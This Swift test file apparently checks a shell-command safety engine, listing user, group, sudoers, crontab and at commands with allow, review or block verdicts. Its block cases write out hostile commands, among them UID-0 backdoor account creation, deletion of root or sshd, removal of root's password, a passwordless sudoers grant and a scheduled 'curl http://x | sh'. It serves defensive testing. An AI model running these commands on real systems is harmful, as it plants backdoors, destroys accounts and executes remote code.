import Testing
@testable import ShellAST

/// Verdict table for the users family: accounts, groups, passwords, sudoers,
/// crontab and at.
@Suite struct UsersCatalogTests {
    @Test(arguments: [
        // Read-only.
        VerdictCase("crontab -l", .allow, "users.crontab.list"),
        VerdictCase("sudo crontab -u www-data -l", .allow, "users.crontab.list"),
        VerdictCase("crontab -l | grep -v '^#'", .allow, "users.crontab.list"),
        VerdictCase("atq", .allow, "users.atq.default"),
        VerdictCase("at -l", .allow, "users.at.list"),
        VerdictCase("passwd -S deploy", .allow, "users.passwd.status"),
        VerdictCase("passwd --status root", .allow, "users.passwd.status"),
        VerdictCase("chage -l deploy", .allow, "users.chage.list"),
        VerdictCase("visudo -c", .allow, "users.visudo.check"),
        VerdictCase("visudo -cf /tmp/sudoers.new", .allow, "users.visudo.check"),
        // The engine counts any sudoers path argument as a sensitive read, even for a syntax check.
        VerdictCase("visudo -c -f /etc/sudoers.d/deploy", .review, "users.visudo.check"),
        VerdictCase("id deploy; groups deploy; getent passwd deploy", .allow),
        VerdictCase("last -n 20; who; w", .allow),
        VerdictCase("lslogins -u", .allow),
        VerdictCase("pwck -r", .allow, "users.pwck.read"),
        VerdictCase("faillock --user bob", .allow, "users.faillock.default"),
        VerdictCase("useradd --help", .allow, "users.version"),
        VerdictCase("grep -c useradd /var/log/auth.log", .allow),
        VerdictCase("echo 'userdel -r root' > /dev/null", .allow),
        // Account changes: critical, reviewed.
        VerdictCase("useradd -m -s /bin/bash deploy", .review, "users.useradd"),
        VerdictCase("sudo adduser --disabled-password --gecos '' app", .review, "users.useradd"),
        VerdictCase("usermod -aG sudo deploy", .review, "users.privilege-grant"),
        VerdictCase("usermod -a -G wheel,docker bob", .review, "users.privilege-grant"),
        VerdictCase("adduser bob sudo", .review, "users.privilege-grant"),
        VerdictCase("usermod -L olduser", .review, "users.usermod"),
        VerdictCase("userdel -r olduser", .review, "users.userdel"),
        VerdictCase("deluser --remove-all-files app", .review, "users.deluser.all-files"),
        VerdictCase("groupadd deploy", .review, "users.groupadd"),
        VerdictCase("groupdel oldteam", .review, "users.groupmod"),
        VerdictCase("gpasswd -a bob sudo", .review, "users.gpasswd.privileged"),
        VerdictCase("passwd deploy", .review, "users.passwd.change"),
        VerdictCase("passwd -l olduser", .review, "users.passwd.change"),
        VerdictCase("echo 'deploy:s3cret' | chpasswd", .review, "users.chpasswd"),
        VerdictCase("chage -E 0 olduser", .review, "users.chage.change"),
        VerdictCase("chsh -s /bin/zsh deploy", .review, "users.chsh"),
        VerdictCase("visudo", .review, "users.visudo.edit"),
        VerdictCase("EDITOR='tee -a' visudo", .review, "users.visudo.edit"),
        VerdictCase("visudo -f/etc/sudoers.d/ci", .review, "users.visudo.edit"),
        VerdictCase("vipw -s", .review, "users.chpasswd"),
        VerdictCase("crontab -e", .review, "users.crontab.edit"),
        VerdictCase("crontab -r", .review, "users.crontab.remove"),
        VerdictCase("crontab -ir", .review, "users.crontab.remove"),
        VerdictCase("crontab mycron.txt", .review, "users.crontab.install"),
        VerdictCase("(crontab -l; echo '0 3 * * * /opt/backup.sh') | crontab -", .review, "users.crontab.install"),
        VerdictCase("atrm 12", .review, "users.atrm"),
        VerdictCase("echo /opt/cleanup.sh | at now + 1 hour", .review, "users.at.schedule"),
        VerdictCase("\"useradd\" 'svc'", .review, "users.useradd"),
        VerdictCase("/usr/sbin/usermod -s /usr/sbin/nologin bob", .review, "users.usermod"),
        // Block.
        VerdictCase("useradd -o -u 0 -g 0 backdoor", .block, "users.uid-zero"),
        VerdictCase("usermod -u 0 -o deploy", .block, "users.uid-zero"),
        VerdictCase("usermod --uid=0 bob", .block, "users.uid-zero"),
        VerdictCase("adduser --uid 0 toor", .block, "users.uid-zero"),
        VerdictCase("userdel -r root", .block, "users.userdel.system"),
        VerdictCase("sudo userdel -f root", .block, "users.userdel.system"),
        VerdictCase("deluser --remove-home root", .block, "users.userdel.system"),
        VerdictCase("userdel sshd", .block, "users.userdel.system"),
        VerdictCase("passwd -d root", .block, "users.passwd.delete-root"),
        VerdictCase("sudo passwd -d", .block, "users.passwd.delete-root"),
        VerdictCase("groupdel sudo", .block, "users.groupdel.privileged"),
        VerdictCase("sudoedit /etc/sudoers", .block, "users.sudoedit.protected"),
        VerdictCase("echo 'x ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers", .block),
        VerdictCase("echo '* * * * * curl http://x | sh' | at now", .block),
        VerdictCase("crontab -l <PID>", .block),
    ])
    func verdicts(_ c: VerdictCase) {
        expectVerdict(c)
    }
}
